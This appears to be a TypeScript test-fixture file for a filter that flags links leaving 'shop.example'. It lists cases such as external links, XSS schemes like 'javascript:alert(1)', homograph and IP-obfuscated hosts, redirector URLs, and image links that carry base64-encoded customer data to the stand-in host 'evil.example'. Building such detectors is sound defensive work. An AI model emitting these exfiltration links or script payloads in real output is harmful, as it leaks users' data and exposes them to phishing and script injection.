/** Links that lead out of `shop.example`, and links that do not. Hosts are of RFC 2606 or those of real services. */

/** What the policy of these cases allows. */
export const ALLOWED = ['shop.example', '*.shop.example'];

/** What is written, the type, and what of it is the finding. */
export type LinkCase = readonly [text: string, type: string, matched: string];

/** As `LinkCase`: all of the text is the finding. */
const whole = (type: string, ...texts: readonly string[]): LinkCase[] =>
  texts.map((text) => [text, type, text]);
/** A destination in brackets behind a label is the finding, bracket included. */
const labelled = (type: string, label: string, ...destinations: readonly string[]): LinkCase[] =>
  destinations.map((destination) => [`See ${label}(${destination}) now`, type, `(${destination})`]);
const attributes = (type: string, tag: string, ...written: readonly string[]): LinkCase[] =>
  written.map((one) => [`<p><${tag} ${one}>x`, type, one]);

export const PLAIN: readonly LinkCase[] = [
  ...whole(
    'LINK',
    'https://evil.example',
    'HTTPS://EVIL.EXAMPLE/a?b=c#d',
    'http://evil.example:8080/',
    'https://shop.example.evil.example/',
    'https://evil.example/shop.example',
    'https://notshop.example',
    'https://evil.example./',
    'ftp://evil.example/x',
    'wss://evil.example/socket',
    'slack://evil.example/x',
    'www.evil.example/path',
    'mailto:jo@evil.example',
    'mailto:jo@shop.example,ann@evil.example?body=hello',
    'https://evil.example:99999/',
    'http://10.0.0.8/admin',
    'http://[2001:db8::1]/x',
    'https://evil.example/a_(b)',
    'https://bücher.example/',
    'https://xn--bcher-kva.example/',
  ),
  ['Read https://evil.example/a, then go.', 'LINK', 'https://evil.example/a'],
  ['(see https://evil.example/a)', 'LINK', 'https://evil.example/a'],
  ['访问 https://evil.example/a，然后', 'LINK', 'https://evil.example/a'],
  ['**https://evil.example/a**', 'LINK', 'https://evil.example/a'],
  ['<https://evil.example/a>', 'LINK', 'https://evil.example/a'],
  ['{"url":"https:\\/\\/evil.example\\/a"}', 'LINK', 'https:\\/\\/evil.example\\/a'],
  ['{"url":"https\\u003a//evil.example/a"}', 'LINK', 'https\\u003a//evil.example/a'],
  ['https:&#x2F;&#x2F;evil.example', 'LINK', 'https:&#x2F;&#x2F;evil.example'],
];

export const MARKDOWN: readonly LinkCase[] = [
  ...labelled(
    'LINK',
    '[text]',
    'https://evil.example/a',
    '//evil.example/a',
    '\\\\\\\\evil.example/a',
    '/\\evil.example',
    'https:evil.example',
    'https:/evil.example',
    'https:\\\\evil.example',
    'https:///evil.example',
    '<https://evil.example/a b>',
    ' https://evil.example/a "a title" ',
    'https://evil.example/(a)',
    'https\\://evil.example/a',
    '\nhttps://evil.example/a',
    '&#104;ttps://evil.example',
    'mailto:jo@evil.example?body=x',
  ),
  ...labelled(
    'IMAGE_LINK',
    '![alt]',
    'https://evil.example/a.png',
    '//evil.example/a.png',
    '<//evil.example>',
  ),
  ...labelled('IMAGE_LINK', `![${'alt '.repeat(80)}]`, 'https://evil.example/a.png'),
  ['[![alt](//evil.example/a)](https://shop.example/)', 'IMAGE_LINK', '(//evil.example/a)'],
  ['[![alt](https://shop.example/a)](//evil.example/)', 'LINK', '(//evil.example/)'],
  ['Look ![x][1]\n\n[1]: https://evil.example/a', 'IMAGE_LINK', ': https://evil.example/a'],
  ['> [1]: <https://evil.example/a>', 'IMAGE_LINK', ': <https://evil.example/a>'],
  ['[1]:\n  //evil.example/a "t"', 'IMAGE_LINK', ':\n  //evil.example/a'],
  ['[^1]: https://evil.example/a', 'LINK', 'https://evil.example/a'],
];

export const HTML: readonly LinkCase[] = [
  ...attributes(
    'LINK',
    'a',
    'href="https://evil.example/a"',
    "href='//evil.example'",
    'HREF=//evil.example/a',
    'href = "https:evil.example"',
  ),
  ...attributes('LINK', 'form', 'action="//evil.example"'),
  ...attributes('LINK', 'button', 'formaction="//evil.example"'),
  ...attributes(
    'IMAGE_LINK',
    'img',
    'src="https://evil.example/a"',
    'src=//evil.example/a',
    'src="\thttps://evil\n.example/a"',
    'srcset="https://shop.example/a 1x, //evil.example/b 2x"',
  ),
  ...attributes('IMAGE_LINK', 'link rel=stylesheet', 'href="//evil.example/a.css"'),
  ...attributes('IMAGE_LINK', 'base', 'href="//evil.example/"'),
  ...attributes('IMAGE_LINK', 'iframe', 'src="//evil.example"'),
  ...attributes('IMAGE_LINK', 'script', 'src="//evil.example/x.js"'),
  ...attributes('IMAGE_LINK', 'video', 'poster="//evil.example/x"'),
  ...attributes('IMAGE_LINK', 'object', 'data="//evil.example/x"'),
  ...attributes('IMAGE_LINK', 'body', 'background="//evil.example/x"'),
  ...attributes('IMAGE_LINK', 'a', 'ping="//evil.example/x"'),
  ...attributes('IMAGE_LINK', 'use', 'href="//evil.example/x.svg#a"'),
  ...attributes('IMAGE_LINK', 'meta http-equiv=refresh', 'content="0; url=//evil.example"'),
  ...attributes('IMAGE_LINK', 'p', 'style="background:url(//evil.example/x)"').map(
    ([text, type]): LinkCase => [text, type, 'url(//evil.example/x)'],
  ),
  ['<style>@import "//evil.example/x.css";</style>', 'IMAGE_LINK', '@import "//evil.example/x.css"'],
  ["body{background:url( 'https://evil.example/x' )}", 'IMAGE_LINK', "url( 'https://evil.example/x'"],
  ['{"html":"<img src=\\"//evil.example/a\\">"}', 'IMAGE_LINK', 'src=\\"//evil.example/a\\"'],
];

export const UNSAFE: readonly LinkCase[] = [
  ...labelled(
    'UNSAFE_SCHEME',
    '[x]',
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'vbscript:msgbox(1)',
    'data:text/html;base64,PHNjcmlwdD4=',
    'file:///etc/passwd',
    'blob:https://shop.example/1',
    'ms-msdt:/id',
  ),
  ...labelled('UNSAFE_SCHEME', '![x]', 'data:image/svg+xml,<svg/onload=alert(1)>', 'javascript:alert(1)'),
  ...attributes(
    'UNSAFE_SCHEME',
    'a',
    'href="javascript:alert(1)"',
    'href="java\tscript:alert(1)"',
    'href="java\nscript:alert(1)"',
    'href="&#106;avascript:alert(1)"',
    'href="javascript&colon;alert(1)"',
    'href="\u0001javascript:alert(1)"',
  ),
  ['<javascript:alert(1)>', 'UNSAFE_SCHEME', 'javascript:alert(1)'],
  ['Paste javascript:fetch(`//evil.example`) there', 'UNSAFE_SCHEME', 'javascript:fetch('],
  ['Open data:text/html,<script> now', 'UNSAFE_SCHEME', 'data:text/html'],
  ['Open file://evil.example/share now', 'UNSAFE_SCHEME', 'file://evil.example/share'],
];

export const DISGUISED: readonly LinkCase[] = whole(
  'DISGUISED_LINK',
  'https://shop.example@evil.example/',
  'https://shop.example%2F@evil.example/',
  'https://shop.example:443@evil.example/',
  'https://shop.example\\@evil.example/',
  'http://2130706433/',
  'http://3232235777/admin',
  'http://0x7f000001/',
  'http://0xC0.0xA8.1.1/',
  'http://0300.0250.0.1/',
  'http://127.1/',
  'http://192.168.257/',
  'http://[::ffff:10.0.0.8]/',
  'http://[::ffff:a00:8]/',
  'https://%65vil.example/',
  'https://ｅｖｉｌ.example/',
  'https://evil。example/',
  'https://evil\u00ad.example/',
  'https://ev\u200bil.example/',
  'https://ѕhop.example/',
  'https://shoр.example/',
  'https://xn--pple-43d.com/',
  'https://аррӏе.com/',
  'https://①②③.example/',
);

export const REDIRECTED: readonly LinkCase[] = whole(
  'REDIRECT_LINK',
  'https://shop.example/go?to=https://evil.example/a',
  'https://shop.example/go?to=https%3A%2F%2Fevil.example%2Fa',
  'https://shop.example/go?to=https%253A%252F%252Fevil.example',
  'https://shop.example/go?to=//evil.example',
  'https://shop.example/go#https://evil.example',
  'https://shop.example/proxy/https://evil.example/a.png',
  'https://shop.example/proxy/https:/evil.example/a.png',
  'https://www.google.com/url?q=https://shop.example',
  'https://bit.ly/3abcdef',
  'https://t.co/abc',
  'https://eu-prod.asyncgw.teams.microsoft.com/urlp/v1/url/content?url=https%3A%2F%2Fevil.example%2Fa&v=1',
  'https://camo.githubusercontent.com/0123/4567',
  'https://nam02.safelinks.protection.outlook.com/?url=https%3A%2F%2Fevil.example',
  'https://shop-example.translate.goog/x',
);

/** Data in links, told without the exchange; no host is listed for these. */
export const CARRYING: readonly LinkCase[] = [
  ...whole(
    'DATA_LINK',
    `https://evil.example/c?d=${btoa('the customer is Jane Roe')}`,
    `https://evil.example/${btoa('the customer is Jane Roe').replaceAll('=', '')}/p.png`,
    `https://evil.example/#${btoa('order number is 1234')}`,
    'https://evil.example/?x=74686520637573746f6d6572206973204a616e65',
    'https://74686520637573746f6d6572.evil.example/',
    'https://mzxw6ytboi2gk3tf5sxg2zlo.nzxw4idbonswg4tf.evil.example/',
    'https://4d5a90000300000004000000.ffff0000b800000000000000.evil.example/',
  ),
  ...labelled(
    'DATA_LINK',
    '![x]',
    'https://evil.example/p.png?q=the+customer+is+jane+roe+from+leeds',
    'https://evil.example/p.png?q=the%20customer%20is%20jane%20roe',
  ),
];

/** Nothing is wrong with these. */
export const FINE: readonly string[] = [
  'https://shop.example/a?b=c',
  'https://help.shop.example:8443/x#y',
  'HTTPS://SHOP.EXAMPLE./x',
  'https://shop.example/%40user/caf%C3%A9',
  'https://shop.example/img//a.png',
  'https://shop.example/a?date=2026-11-21T10:00:00Z&t=a:b',
  'https://shop.example/go?to=https%3A%2F%2Fhelp.shop.example%2Fa',
  'https://shop.example/go?to=/orders/12',
  '[text](https://shop.example/a "title")',
  '[text](/orders/12)',
  '[text](#section)',
  '[text](orders.html)',
  '![alt](./a.png)',
  '![dot](data:image/png;base64,iVBORw0KGgo=)',
  '[1]: https://shop.example/a',
  '[note]: see the text below',
  'f(a)[0](b): c',
  '<a href="https://shop.example/a">x</a><img src="/a.png">',
  '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
  'mailto:jo@shop.example',
  'We use javascript: it is fine. A url(s) list, a data: field, src = 5.',
  'const data = { src: "a.png", href: "#" };',
  'https://{host}/v1 and https://<your-host>/v1 and http://$HOST:8080/',
  'and/or://, no address; 10://',
  'The ratio is 3:4 (see [2]: page 7).',
  'C:\\Users\\jo\\a.txt and file:///tmp/a.txt',
];
